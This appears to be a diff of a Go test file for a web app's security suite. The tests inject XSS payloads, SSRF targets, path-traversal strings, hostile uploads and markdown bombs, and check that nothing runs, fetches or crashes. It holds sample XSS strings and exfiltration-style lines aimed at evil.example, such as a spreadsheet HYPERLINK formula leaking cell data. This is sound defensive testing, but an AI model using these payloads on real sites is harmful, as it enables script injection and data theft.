@@ -4,16 +4,30 @@ import (
 	"bytes"
 	"encoding/json"
 	"fmt"
+	"html"
+	"io"
+	"maps"
 	"net/http"
+	"net/http/httptest"
 	"net/url"
 	"os"
 	"path/filepath"
+	"regexp"
+	"runtime"
+	"slices"
+	"strconv"
 	"strings"
+	"sync/atomic"
+	"syscall"
 	"testing"
+	"time"
 
+	"github.com/guildhall/guildhall/internal/ask"
 	"github.com/guildhall/guildhall/internal/core/visit"
 	"github.com/guildhall/guildhall/internal/platform/db"
 	"github.com/guildhall/guildhall/internal/platform/db/dbtest"
+	"github.com/guildhall/guildhall/internal/platform/hostile"
+	"github.com/guildhall/guildhall/internal/platform/id"
 	"github.com/guildhall/guildhall/internal/ui/browsertest"
 	"github.com/guildhall/guildhall/internal/ui/uitest"
 )
@@ -29,21 +43,25 @@ func shared(t *testing.T, elem ...string) []byte {
 }
 
 // payloads are texts that run as script where somebody forgot to escape them:
-// our own, and every eighth of the shared ones.
-func payloads(t *testing.T) []string {
+// our own, and every step-th of the shared ones, without what no text may hold.
+func payloads(t *testing.T, step int) []string {
 	t.Helper()
 	out := []string{
 		`<script>alert(1)</script>`, `"><img src=x onerror=alert(1)>`, `' onmouseover='alert(1)`, `javascript:alert(1)`, `[a](javascript:alert(1))`,
 		`</textarea><script>alert(1)</script>`, `</title><svg onload=alert(1)>`, `{{constructor.constructor('alert(1)')()}}`, `<iframe srcdoc="<script>alert(1)</script>">`,
+		`=HYPERLINK("http://evil.example/?"&A1)`, `<base href=//evil.example>`, `<form action=//evil.example><button>x`, `<meta http-equiv=refresh content=0;url=//evil.example>`,
 	}
 	for i, l := range bytes.Split(shared(t, "xss", "payloads.jsonl"), []byte("\n")) {
 		var p struct{ Payload string }
-		if i%8 == 0 && len(l) > 0 {
+		if i%step == 0 && len(l) > 0 {
 			if err := json.Unmarshal(l, &p); err != nil {
 				t.Fatal(err)
 			}
 			out = append(out, p.Payload)
 		}
+	}
+	for i, p := range out {
+		out[i] = strings.ToValidUTF8(strings.ReplaceAll(p, "\x00", ""), "")
 	}
 	return out
 }
@@ -70,62 +88,142 @@ func cut(s string, n int) string {
 	return s
 }
 
+// harmless fails the test when something on the page could run or load from
+// elsewhere; other faults of a document are other tests' business.
+func (g *guild) harmless(path, payload, page string) {
+	g.Helper()
+	for _, p := range uitest.Problems(page) {
+		for _, bad := range []string{"inline handler", "leads to \"", "inline script", "script from elsewhere", "inline style", " a <"} {
+			if strings.Contains(" "+p, bad) && !strings.Contains(p, "is not there") {
+				g.Errorf("%s shows %q: %s", path, payload, p)
+			}
+		}
+	}
+}
+
+// TestHostileTextIsHarmlessOnEveryPageThatShowsIt puts every payload into every
+// field that people fill in, and looks at it on the pages about one thing; every
+// page of the house is looked at after each 25 payloads, while its lists
+// still show them. What was written comes back as it was.
 func TestHostileTextIsHarmlessOnEveryPageThatShowsIt(t *testing.T) {
 	g := newGuild(t, dbtest.SQLite(t))
 	ben := g.person("Ben")
-	harmless := func(path, payload string) {
+	step := 1
+	if testing.Short() {
+		step = 40
+	}
+	all := payloads(t, step)
+	pages := 0
+	look := func(path, payload string) {
 		code, page, _ := g.ask("Ada", "GET", path, "")
 		if code != 200 {
 			t.Errorf("%s answers %d for %q", path, code, payload)
 		}
-		for _, p := range uitest.Problems(page) {
-			// Structure is another test's business; here it is what could run.
-			for _, bad := range []string{"handler", "leads to \"javascript", "inline script", "inline style", "a <iframe", "a <object", "a <embed", "a <base"} {
-				if strings.Contains(p, bad) {
-					t.Errorf("%s shows %q: %s", path, payload, p)
-				}
-			}
-		}
+		g.harmless(path, payload, page)
+		pages++
 	}
-	posted := 0
-	for _, p := range payloads(t) {
-		p = strings.ToValidUTF8(strings.ReplaceAll(p, "\x00", ""), "")
-		var asked, answered struct{ ID string }
-		if code := g.call("Ben", "POST", "/api/v1/questions", map[string]any{"title": cut("What about this: "+p, 200), "body": p, "skills": []string{cut(p, 100)}}, &asked); code != 201 {
+	for i, p := range all {
+		var asked, answered, commented struct{ ID string }
+		title := cut("What about this: "+p, 200)
+		if code := g.call("Ben", "POST", "/api/v1/questions", map[string]any{"title": title, "body": p, "skills": []string{cut(p, 100)}}, &asked); code != 201 {
 			// What is no name of a skill is told so.
-			if code = g.call("Ben", "POST", "/api/v1/questions", map[string]any{"title": cut("What about this: "+p, 200), "body": p}, &asked); code != 201 {
+			if code = g.call("Ben", "POST", "/api/v1/questions", map[string]any{"title": title, "body": p}, &asked); code != 201 {
 				t.Errorf("asking %q answers %d", p, code)
 				continue
 			}
 		}
-		if code := g.call("Mia", "POST", "/api/v1/questions/"+asked.ID+"/answers", map[string]any{"body": p + "\n\n[a](" + p + ")"}, &answered); code != 201 {
+		question := "/api/v1/questions/" + asked.ID
+		if code := g.call("Mia", "POST", question+"/answers", map[string]any{"body": p + "\n\n[a](" + p + ")"}, &answered); code != 201 {
 			t.Errorf("answering %q answers %d", p, code)
+			continue
 		}
-		for who, x := range map[string]struct {
-			method, path string
-			want         int
-			body         map[string]any
+		for _, x := range []struct {
+			who, method, path string
+			want              int
+			body              map[string]any
 		}{
-			"Max": {"POST", "/api/v1/questions/" + asked.ID + "/comments", 201, map[string]any{"body": cut(p, 2000)}},
-			"Mia": {"POST", "/api/v1" + ben + "/vouches", 201, map[string]any{"skill": "weaving", "note": cut("Some real work: "+p, 1000)}},
-			"Ben": {"PUT", "/api/v1/me", 204, map[string]any{"name": cut("B "+p, 200), "title": cut(p, 200), "pronouns": cut(p, 40), "about": cut(p, 2000), "weekly_budget": 3}},
+			{"Max", "POST", question + "/comments", 201, map[string]any{"body": cut(p, 2000)}},
+			{"Ben", "PUT", question, 204, map[string]any{"title": title, "body": p + " again", "note": cut(p, 200)}},
+			{"Mia", "POST", "/api/v1" + ben + "/vouches", 201, map[string]any{"skill": "weaving", "note": cut("Some real work: "+p, 1000)}},
+			{"Ben", "PUT", "/api/v1/me", 204, map[string]any{"name": cut("B "+p, 200), "title": cut(p, 200), "pronouns": cut(p, 40), "about": cut(p, 2000), "weekly_budget": 3}},
+			{"Ben", "POST", "/api/v1/me/skills", 201, map[string]any{"skill": "weaving", "direction": "teach", "level": 3, "note": cut(p, 200)}},
+			{"Ada", "POST", "/api/v1/me/tokens", 201, map[string]any{"label": cut("T "+p, 60)}},
 		} {
-			if code := g.call(who, x.method, x.path, x.body, nil); code != x.want {
+			out := &struct{ ID string }{}
+			into := any(out)
+			if x.want == 204 {
+				into = nil
+			}
+			if code := g.call(x.who, x.method, x.path, x.body, into); code != x.want {
 				t.Errorf("%s %s with %q answers %d", x.method, x.path, p, code)
 			}
-		}
-		posted++
-		for _, path := range []string{"/questions/" + asked.ID, ben, "/search?q=" + url.QueryEscape(cut(p, 200))} {
-			harmless(path, p)
-		}
-		if posted%10 == 0 {
-			for _, path := range []string{"/", "/questions", "/people", "/skills", "/people/" + g.cast["Ben"].Person.String() + "/vouches", "/questions/" + asked.ID + "/state",
-				"/who-knows?q=" + url.QueryEscape(cut(p, 200)), "/questions/new?title=" + url.QueryEscape(cut(p, 200)), "/admin"} {
-				harmless(path, p)
+			if strings.HasSuffix(x.path, "/comments") {
+				commented.ID = out.ID
+			} else if strings.HasSuffix(x.path, "/tokens") {
+				g.call("Ada", "DELETE", "/api/v1/me/tokens/"+out.ID, nil, nil)
 			}
 		}
+		var kept struct{ Title, Body string }
+		if code := g.call("Ada", "GET", question, nil, &kept); code != 200 || kept.Title != strings.Join(strings.Fields(title), " ") && kept.Title != strings.TrimSpace(title) ||
+			strings.TrimSpace(kept.Body) != strings.TrimSpace(strings.ReplaceAll(strings.ReplaceAll(p+" again", "\r\n", "\n"), "\r", "\n")) {
+			t.Errorf("%q comes back as %q, %q", p, kept.Title, kept.Body)
+		}
+		for _, path := range []string{"/questions/" + asked.ID, "/questions/" + asked.ID + "/edit", "/questions/" + asked.ID + "/history", ben, "/search?q=" + url.QueryEscape(cut(p, 200))} {
+			look(path, p)
+		}
+		if (i+1)%25 != 0 && i != len(all)-1 {
+			continue
+		}
+		for path, form := range map[string]url.Values{
+			"/questions/" + asked.ID + "/state":      {"state": {"obsolete"}, "why": {cut(p, 200)}},
+			"/admin/organisation":                    {"organisation": {cut("O "+p, 60)}, "time_zone": {"Europe/Lisbon"}},
+			"/admin/sites":                           {"name": {cut("S "+p, 60)}, "time_zone": {"Europe/Lisbon"}},
+			"/admin/invitations":                     {"people": {cut("I "+strings.ReplaceAll(p, "\n", " "), 100)}, "role": {"member"}},
+			"/skills/" + g.skill.String() + "/edit":  {"kind": {"skill"}, "name": {"weaving"}, "category": {cut(p, 60)}, "description": {cut(p, 400)}, "synonyms": {cut(p, 60)}, "level1": {cut(p, 200)}},
+			"/people/me/edit":                        {"name": {""}, "about": {p}, "title": {p}},
+			"/questions":                             {"title": {""}, "body": {p}, "skills": {p}},
+			"/login":                                 {"who": {p}, "secret": {p}},
+			"/claim":                                 {"personnel_no": {p}, "code": {p}, "pin": {"1"}, "again": {"2"}},
+			"/questions/" + asked.ID + "/answers":    {"body": {strings.Repeat(" ", 3)}},
+			"/questions/" + asked.ID + "/acceptance": {"answer": {p}},
+		} {
+			code, page, _ := g.ask("Ada", "POST", path, form.Encode())
+			if code >= 500 {
+				t.Errorf("POST %s with %q answers %d", path, p, code)
+			}
+			if strings.HasPrefix(strings.TrimSpace(page), "<!") {
+				g.harmless("POST "+path, p, page)
+				pages++
+			}
+		}
+		if code := g.call("Ada", "POST", "/api/v1/me/skills", map[string]any{"skill": "weaving", "direction": "teach", "level": 3, "note": cut(p, 200)}, nil); code != 201 {
+			t.Errorf("declaring with %q answers %d", p, code)
+		}
+		g.follow()
+		q, a, c := parseID(t, asked.ID), parseID(t, answered.ID), parseID(t, commented.ID)
+		inside, outside := g.paths(q, a, c, g.cast["Ben"].Person)
+		for _, path := range append(inside, "/who-knows?q="+url.QueryEscape(cut(p, 200)), "/questions/new?title="+url.QueryEscape(cut(p, 200)), "/people?name="+url.QueryEscape(cut(p, 100)),
+			"/skills?q="+url.QueryEscape(cut(p, 100)), "/login?to="+url.QueryEscape(p)) {
+			if path != "/people/me/departure" && !strings.HasPrefix(path, "/login") {
+				look(path, p)
+			}
+		}
+		for _, path := range outside {
+			_, page, _ := g.ask("", "GET", path, "")
+			g.harmless(path, p, page)
+			pages++
+		}
 	}
-	t.Logf("%d payloads in every field", posted)
+	t.Logf("%d payloads in every field, %d pages looked at", len(all), pages)
+}
+
+func parseID(t *testing.T, s string) id.ID {
+	t.Helper()
+	n, err := id.Parse(s)
+	if err != nil {
+		t.Fatal(err)
+	}
+	return n
 }
 
 func TestNaughtyStringsGetTheSameAnswerOnBothDatabases(t *testing.T) {
@@ -180,7 +278,7 @@ func TestNoAddressLeadsOutOfTheHouseOrItsFolders(t *testing.T) {
 		if l = strings.TrimSpace(l); l == "" {
 			continue
 		}
-		for _, under := range []string{"/assets/", "/pictures/"} {
+		for _, under := range []string{"/assets/", "/pictures/", "/files/", "/questions/", "/api/v1/questions/", "/"} {
 			req := &http.Request{Method: "GET", URL: &url.URL{Scheme: "http", Host: strings.TrimPrefix(g.url, "http://"), Opaque: under + strings.NewReplacer(" ", "%20", "\t", "%09").Replace(l)}, Header: http.Header{}}
 			code, body := g.send("Ada", req)
 			if code == 200 && (strings.Contains(body, "root:") || strings.Contains(body, "package app")) || code >= 500 {
@@ -200,42 +298,413 @@ func TestNoAddressLeadsOutOfTheHouseOrItsFolders(t *testing.T) {
 	}
 }
 
+// TestTheServerFetchesNoAddressThatPeopleWrite writes addresses of a listener of
+// our own and of places inside a network into everything that takes text, lets
+// everything follow from it, and opens the pages: nobody comes to fetch.
+func TestTheServerFetchesNoAddressThatPeopleWrite(t *testing.T) {
+	var came atomic.Int64
+	trap := httptest.NewServer(http.HandlerFunc(func(http.ResponseWriter, *http.Request) { came.Add(1) }))
+	defer trap.Close()
+	g := newGuild(t, dbtest.SQLite(t))
+	targets := []string{trap.URL + "/x.png", strings.Replace(trap.URL, "127.0.0.1", "localhost", 1) + "/a"}
+	for _, l := range strings.Split(string(shared(t, "lists", "ssrf_targets.txt")), "\n") {
+		if l = strings.TrimSpace(l); l != "" && l[0] != '#' {
+			targets = append(targets, l)
+		}
+	}
+	for _, to := range targets {
+		var asked struct{ ID string }
+		body := fmt.Sprintf("![a](%s) [b](%s) <img src=%q> <%s> %s", to, to, to, to, to)
+		if code := g.call("Ben", "POST", "/api/v1/questions", map[string]any{"title": cut("Is it at "+to+" still?", 200), "body": body}, &asked); code != 201 {
+			t.Errorf("%q answers %d", to, code)
+			continue
+		}
+		if code := g.call("Ben", "PUT", "/api/v1/me", map[string]any{"name": cut("Ben "+to, 200), "about": cut(to, 2000), "weekly_budget": 3}, nil); code != 204 {
+			t.Errorf("a profile with %q answers %d", to, code)
+		}
+		for _, path := range []string{"/questions/" + asked.ID, g.person("Ben"), "/search?q=" + url.QueryEscape(to), "/login?to=" + url.QueryEscape(to)} {
+			if code, page, _ := g.ask("Ada", "GET", path, ""); code >= 400 {
+				t.Errorf("%s answers %d", path, code)
+			} else {
+				g.harmless(path, to, page)
+			}
+		}
+	}
+	g.follow()
+	if n := came.Load(); n > 0 {
+		t.Errorf("the server came %d times", n)
+	}
+}
+
+// nonsense are ids, queries and bodies that mean nothing.
+var (
+	nonsenseIDs     = []string{"x", "0000000000000", "zzzzzzzzzzzzz", "7zzzzzzzzzzzz", "-1", "%00", "..%2f..%2fetc", "1%20OR%201=1", "%F0%9F%98%80", strings.Repeat("a", 3000)}
+	nonsenseQueries = []string{"cursor=garbage", "after=garbage&from=-1&limit=-1&skill=x&unit=y&site=z", "from=99999999999999999999&limit=1e9&q=%00", "q=%ff%fe", "list[]=x&list=%3Cb%3E&q=" + strings.Repeat("a+", 3000), "%zz", ";;&&=&=="}
+	nonsenseBodies  = []string{"", "null", "[]", "{}", `"x"`, "{", `{"title":null,"body":[],"skills":{}}`, `{"title":1e400,"body":{"a":1},"name":9223372036854775808}`,
+		`{"title":"\ud800 lone","body":"\u0000 nul"}`, "\xff\xfe", "title=%00&body=%ff&name=%00&q=%00&on=%00&id=%00", "title[]=1&body=%zz", strings.Repeat("a=b&", 2000), strings.Repeat("[", 5000)}
+)
+
+// TestNonsenseGetsAClearErrorEverywhere sends what means nothing to every route
+// and every operation: the answers say so, never that something broke, and are
+// the same on both databases.
+func TestNonsenseGetsAClearErrorEverywhere(t *testing.T) {
+	answers := map[string]int{}
+	dbtest.Each(t, func(t *testing.T, d *db.DB) {
+		g := newGuild(t, d)
+		sent := 0
+		for _, pattern := range slices.Sorted(maps.Keys(permissions)) {
+			method, path, _ := strings.Cut(pattern, " ")
+			if path == "/live" || path == "/logout" || path == "/api/v1/me/logins" || path == "/settings/logins" || strings.HasPrefix(path, "/demo/") {
+				continue // they have no end, or end what asks
+			}
+			fill := func(n string) string {
+				return strings.NewReplacer("{$}", "", "{id}", n, "{token}", n, "{hash}", n, "{direction}", n).Replace(path)
+			}
+			var tries [][2]string
+			for _, n := range nonsenseIDs {
+				tries = append(tries, [2]string{fill(n), "{}"})
+				if path == fill(n) {
+					break // nothing stands in the path
+				}
+			}
+			good := g.skill.String()
+			for _, q := range nonsenseQueries {
+				tries = append(tries, [2]string{fill(good) + "?" + q, ""})
+			}
+			if method != "GET" {
+				for _, b := range nonsenseBodies {
+					tries = append(tries, [2]string{fill(good), b})
+				}
+			}
+			for i, x := range tries {
+				code, page, _ := g.ask("Ada", method, x[0], x[1])
+				sent++
+				if code >= 500 || code == 429 && path != "/settings/secret" { // there guessing is slowed down
+					t.Errorf("%s %.120s with %.60q answers %d", method, x[0], x[1], code)
+				}
+				if strings.HasPrefix(page, "<!") && code >= 400 {
+					g.harmless(pattern, x[1], page)
+				}
+				key := fmt.Sprintf("%s %d", pattern, i)
+				if was, ok := answers[key]; ok && was != code {
+					t.Errorf("%s %.120s with %.60q: one database answers %d, the other %d", method, x[0], x[1], was, code)
+				}
+				answers[key] = code
+			}
+		}
+		t.Logf("%d requests", sent)
+	})
+}
+
+// attach answers a question with a file, as a form does.
+func (g *guild) attach(question, name string, data []byte) (code int, said string) {
+	return g.upload("Ben", "/questions/"+question+"/answers", "files", name, data, "body", "See here.")
+}
+
+var fileLink = regexp.MustCompile(`/files/[0-9a-z]{13}`)
+
+// TestHostileFilesAreRefusedOrKeptAsDownloads sends files that break programs to
+// every door that takes files. What is kept is a download or a picture that we
+// have drawn anew, and small.
+func TestHostileFilesAreRefusedOrKeptAsDownloads(t *testing.T) {
+	files := map[string][]byte{
+		"a.svg": []byte(`<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>`), "a.html": []byte("<script>alert(1)</script>"), "half.png": []byte("\x89PNG\r\n\x1a\n"), "empty": {},
+	}
+	t.Run("shared", func(t *testing.T) {
+		dir := hostile.Files(t)
+		entries, err := os.ReadDir(dir)
+		if err != nil {
+			t.Fatal(err)
+		}
+		for _, e := range entries {
+			if files[e.Name()], err = os.ReadFile(filepath.Join(dir, e.Name())); err != nil {
+				t.Fatal(err)
+			}
+		}
+		drawings, err := filepath.Glob(filepath.Join(hostile.Path(t, "security", "xss", "svg"), "*.svg"))
+		if err != nil {
+			t.Fatal(err)
+		}
+		for _, f := range drawings {
+			if files[filepath.Base(f)], err = os.ReadFile(f); err != nil {
+				t.Fatal(err)
+			}
+		}
+	})
+	answers := map[string]string{}
+	dbtest.Each(t, func(t *testing.T, d *db.DB) {
+		g := newGuild(t, d)
+		var asked struct{ ID string }
+		if code := g.call("Ben", "POST", "/api/v1/questions", map[string]any{"title": "What is in these files?"}, &asked); code != 201 {
+			t.Fatal(code)
+		}
+		kept := 0
+		for _, name := range slices.Sorted(maps.Keys(files)) {
+			data := files[name]
+			var before, after runtime.MemStats
+			runtime.ReadMemStats(&before)
+			one, said := g.attach(asked.ID, name, data)
+			runtime.ReadMemStats(&after)
+			if one != 303 && one != 422 && one != 413 {
+				t.Errorf("attaching %s answers %d %.200s", name, one, said)
+			}
+			if most := uint64(64<<20 + 4*len(data)); after.TotalAlloc-before.TotalAlloc > most {
+				t.Errorf("attaching %s takes %d MB", name, (after.TotalAlloc-before.TotalAlloc)>>20)
+			}
+			if one == 303 && len(data) > 0 {
+				kept++
+			}
+			two, _ := g.upload("Ben", "/people/me/picture", "picture", name, data)
+			three, page := g.upload("Ada", "/admin/import", "file", name, data, "do", "preview")
+			if two >= 500 || three >= 500 {
+				t.Errorf("%s as a picture answers %d, as a list of people %d", name, two, three)
+			}
+			if strings.HasPrefix(page, "<!") {
+				g.harmless("/admin/import", name, page)
+			}
+			four := g.raw("POST", "/api/v1/questions", "application/json", "", data)
+			five := g.raw("POST", "/api/v1/questions", "application/json", "gzip", data)
+			if four < 400 || four >= 500 || five < 400 || five >= 500 {
+				t.Errorf("%s as JSON answers %d, compressed %d", name, four, five)
+			}
+			if said := fmt.Sprint(one, two, three, four, five); answers[name] == "" {
+				answers[name] = said
+			} else if answers[name] != said {
+				t.Errorf("%s: one database answers %s, the other %s", name, answers[name], said)
+			}
+		}
+		_, page, _ := g.ask("Ada", "GET", "/questions/"+asked.ID, "")
+		_, rest, _ := g.ask("Ada", "GET", "/questions/"+asked.ID+"?from=50", "")
+		seen := map[string]bool{}
+		for _, path := range fileLink.FindAllString(page+rest, -1) {
+			if seen[path] {
+				continue
+			}
+			seen[path] = true
+			req, err := http.NewRequest("GET", g.url+path, nil)
+			if err != nil {
+				t.Fatal(err)
+			}
+			req.AddCookie(&http.Cookie{Name: visit.Cookie, Value: g.cast["Ada"].cookie})
+			res, err := http.DefaultClient.Do(req)
+			if err != nil {
+				t.Fatal(err)
+			}
+			res.Body.Close()
+			kind, how, csp := res.Header.Get("Content-Type"), res.Header.Get("Content-Disposition"), res.Header.Get("Content-Security-Policy")
+			if res.StatusCode != 200 || res.Header.Get("X-Content-Type-Options") != "nosniff" || !strings.Contains(csp, "default-src 'none'") ||
+				!strings.HasPrefix(how, "attachment") && kind != "image/png" && kind != "image/jpeg" {
+				t.Errorf("%s answers %d as %q, %q, %q", path, res.StatusCode, kind, how, csp)
+			}
+		}
+		if len(seen) != kept {
+			t.Errorf("%d files were kept, the page leads to %d", kept, len(seen))
+		}
+	})
+}
+
+// raw sends bytes as they are on behalf of Ben.
+func (g *guild) raw(method, path, kind, encoding string, body []byte) int {
+	g.Helper()
+	req, err := http.NewRequest(method, g.url+path, bytes.NewReader(body))
+	if err != nil {
+		g.Fatal(err)
+	}
+	req.Header.Set("Content-Type", kind)
+	if encoding != "" {
+		req.Header.Set("Content-Encoding", encoding)
+	}
+	req.Header.Set("Authorization", "Bearer "+g.cast["Ben"].token)
+	res, err := http.DefaultClient.Do(req)
+	if err != nil {
+		return 413 // the server cut a body off that is too large, before it was sent
+	}
+	defer res.Body.Close()
+	_, _ = io.Copy(io.Discard, res.Body)
+	return res.StatusCode
+}
+
+// spent is the processor time of this process.
+func spent(t *testing.T) time.Duration {
+	t.Helper()
+	var u syscall.Rusage
+	if err := syscall.Getrusage(syscall.RUSAGE_SELF, &u); err != nil {
+		t.Fatal(err)
+	}
+	return time.Duration(u.Utime.Nano() + u.Stime.Nano())
+}
+
+// TestBombsOfMarkdownCostLittleToKeepAndToShow posts texts that other renderers
+// choke on and opens the page that shows each, without what a browser adds.
+func TestBombsOfMarkdownCostLittleToKeepAndToShow(t *testing.T) {
+	if testing.Short() {
+		t.Skip("measures processor time")
+	}
+	texts := map[string]string{
+		"quotes": strings.Repeat(">", 20000) + "a", "emphasis": strings.Repeat("*a_ ", 16000), "brackets": strings.Repeat("[", 30000) + "a" + strings.Repeat("]", 30000),
+		"table": "|" + strings.Repeat("a|", 5000) + "\n|" + strings.Repeat("-|", 5000) + "\n" + strings.Repeat("|"+strings.Repeat("a|", 20)+"\n", 900),
+	}
+	t.Run("shared", func(t *testing.T) {
+		list, err := filepath.Glob(filepath.Join(hostile.Files(t), "md_*.md"))
+		if err != nil {
+			t.Fatal(err)
+		}
+		for _, f := range list {
+			b, err := os.ReadFile(f)
+			if err != nil {
+				t.Fatal(err)
+			}
+			texts[filepath.Base(f)] = string(b)
+		}
+	})
+	g := newGuild(t, dbtest.SQLite(t))
+	h := g.house.Handler()
+	do := func(method, path, body string) (code int, said string, took time.Duration, bytes uint64) {
+		req := httptest.NewRequest(method, path, strings.NewReader(body))
+		req.Header.Set("Content-Type", "application/json")
+		if strings.HasPrefix(path, "/api/") {
+			req.Header.Set("Authorization", "Bearer "+g.cast["Ben"].token)
+		} else {
+			req.AddCookie(&http.Cookie{Name: visit.Cookie, Value: g.cast["Ben"].cookie})
+		}
+		var before, after runtime.MemStats
+		runtime.GC()
+		runtime.ReadMemStats(&before)
+		rec, start := httptest.NewRecorder(), spent(t)
+		h.ServeHTTP(rec, req)
+		took = spent(t) - start
+		runtime.ReadMemStats(&after)
+		return rec.Code, rec.Body.String(), took, after.TotalAlloc - before.TotalAlloc
+	}
+	const mostTime, mostBytes = 250 * time.Millisecond, 64 << 20
+	shown := map[string]bool{}
+	for _, name := range slices.Sorted(maps.Keys(texts)) {
+		// Whatever fits is shown; what does not is refused and tried as far as it fits.
+		for _, text := range []string{texts[name], texts[name][:min(len(texts[name]), ask.MaxBody-10)]} {
+			var worst string
+			for try := range 3 { // somebody else may have had the processor's caches
+				worst = ""
+				body, err := json.Marshal(map[string]any{"title": fmt.Sprintf("What does %s look like, %d?", name, try), "body": text + strings.Repeat(" ", try) + "."})
+				if err != nil {
+					t.Fatal(err)
+				}
+				code, said, took, bytes := do("POST", "/api/v1/questions", string(body))
+				if code != 201 && code != 413 && code != 422 {
+					t.Fatalf("%s answers %d %.200s", name, code, said)
+				}
+				if took > mostTime || bytes > mostBytes {
+					worst = fmt.Sprintf("posting %s takes %v and %d MB", name, took, bytes>>20)
+				}
+				if code != 201 {
+					break
+				}
+				var asked struct{ ID string }
+				if err := json.Unmarshal([]byte(said), &asked); err != nil {
+					t.Fatal(err)
+				}
+				code, page, took, bytes := do("GET", "/questions/"+asked.ID, "")
+				if code != 200 {
+					t.Fatalf("the page of %s answers %d", name, code)
+				}
+				if took > mostTime || bytes > mostBytes {
+					worst += fmt.Sprintf(" showing %s takes %v and %d MB", name, took, bytes>>20)
+				}
+				if try == 0 {
+					g.harmless("the page of", name, page)
+					t.Logf("%-22s %7d bytes: shown in %6.1f ms and %2d MB as %7d bytes", name, len(text), took.Seconds()*1000, bytes>>20, len(page))
+					shown[name] = true
+				}
+				if worst == "" {
+					break
+				}
+			}
+			if worst != "" {
+				t.Error(worst)
+			}
+		}
+	}
+	if len(shown) < len(texts) {
+		t.Errorf("only %d of %d texts were shown", len(shown), len(texts))
+	}
+}
+
 func TestNoPayloadRunsInABrowser(t *testing.T) {
 	if testing.Short() {
-		t.Skip("a browser opens a dozen pages")
+		t.Skip("a browser opens dozens of pages")
 	}
+	var came atomic.Int64
+	trap := httptest.NewServer(http.HandlerFunc(func(http.ResponseWriter, *http.Request) { came.Add(1) }))
+	defer trap.Close()
 	g := newGuild(t, dbtest.SQLite(t))
 	var asked struct{ ID string }
 	if code := g.call("Ben", "POST", "/api/v1/questions", map[string]any{"title": "What about all of these?"}, &asked); code != 201 {
 		t.Fatal(code)
 	}
-	all := payloads(t)
+	all := payloads(t, 7)
+	var titled []string
 	for i, p := range all {
-		p = strings.ToValidUTF8(strings.ReplaceAll(p, "\x00", ""), "")
-		if code := g.call("Mia", "POST", "/api/v1/questions/"+asked.ID+"/answers", map[string]any{"body": p + "\n\n[a](" + p + ") ![b](" + p + ")"}, nil); code != 201 {
+		if code := g.call("Mia", "POST", "/api/v1/questions/"+asked.ID+"/answers", map[string]any{"body": p + "\n\n[a](" + p + ") ![b](" + p + ") ![c](" + trap.URL + "/c.png)"}, nil); code != 201 {
 			t.Errorf("answering %q answers %d", p, code)
 		}
-		if i < 30 {
-			g.call("Max", "POST", "/api/v1/questions", map[string]any{"title": cut("What about this: "+p, 200)}, nil)
-			g.call("Max", "PUT", "/api/v1/me", map[string]any{"name": cut("M "+p, 200), "about": cut(p, 2000), "weekly_budget": 3}, nil)
+		// Titles, names and notes stand on lists, where a browser sees them with all
+		// the scripts of the page.
+		var one struct{ ID string }
+		if code := g.call("Max", "POST", "/api/v1/questions", map[string]any{"title": cut("What about this: "+p, 200), "body": p}, &one); code != 201 {
+			t.Errorf("asking %q answers %d", p, code)
+		}
+		g.call("Ben", "POST", "/api/v1/questions/"+asked.ID+"/comments", map[string]any{"body": cut(p, 2000)}, nil)
+		if i%30 == 0 {
+			titled = append(titled, one.ID)
+			g.call("Max", "PUT", "/api/v1/me", map[string]any{"name": cut("M "+p, 200), "title": cut(p, 200), "about": cut(p, 2000), "weekly_budget": 3}, nil)
 		}
 	}
+	g.follow()
 	b := browsertest.Start(t)
 	tab := b.Open(t, g.url+"/questions", browsertest.View{Cookies: map[string]string{visit.Cookie: g.cast["Ada"].cookie}})
 	defer tab.Close()
+	looked := 0
 	look := func(path string) {
 		if err := tab.Go(g.url + path); err != nil {
 			t.Errorf("%s: %v", path, err)
 		}
+		looked++
 		for _, e := range append(tab.Errors(), tab.Dialogs()...) {
 			t.Errorf("%s: %s", path, e)
+		}
+		if ran, err := browsertest.Eval[bool](tab, `document.title.includes("pwned") || location.origin !== `+strconv.Quote(g.url)); err != nil || ran {
+			t.Errorf("%s: the page is somebody else's: %v", path, err)
 		}
 	}
 	for from := 0; from < len(all); from += 50 {
 		look(fmt.Sprintf("/questions/%s?from=%d", asked.ID, from))
 	}
-	for _, path := range []string{"/questions", "/people", g.person("Max"), "/search?q=alert", "/who-knows?q=alert"} {
+	for next := "/questions?list=newest"; next != ""; { // every title in lists
+		look(next)
+		_, page, _ := g.ask("Ada", "GET", next, "")
+		next = ""
+		if m := olderLink.FindStringSubmatch(page); m != nil {
+			next = html.UnescapeString(m[1])
+		}
+	}
+	for _, n := range titled {
+		look("/questions/" + n)
+		look("/questions/" + n + "/edit")
+	}
+	for i, p := range all {
+		if i%40 == 0 {
+			q := url.QueryEscape(cut(p, 200))
+			look("/search?q=" + q)
+			look("/who-knows?q=" + q)
+			look("/questions/new?title=" + q)
+		}
+	}
+	for _, path := range []string{"/", "/people", g.person("Max"), "/notices", "/skills"} {
 		look(path)
 	}
-	t.Logf("%d payloads shown", len(all))
+	if n := came.Load(); n > 0 {
+		t.Errorf("the browser fetched %d pictures from elsewhere", n)
+	}
+	t.Logf("%d payloads on %d pages", len(all), looked)
 }
+
+var olderLink = regexp.MustCompile(`href="(/questions\?list=newest&amp;after=[^"]+)"`)
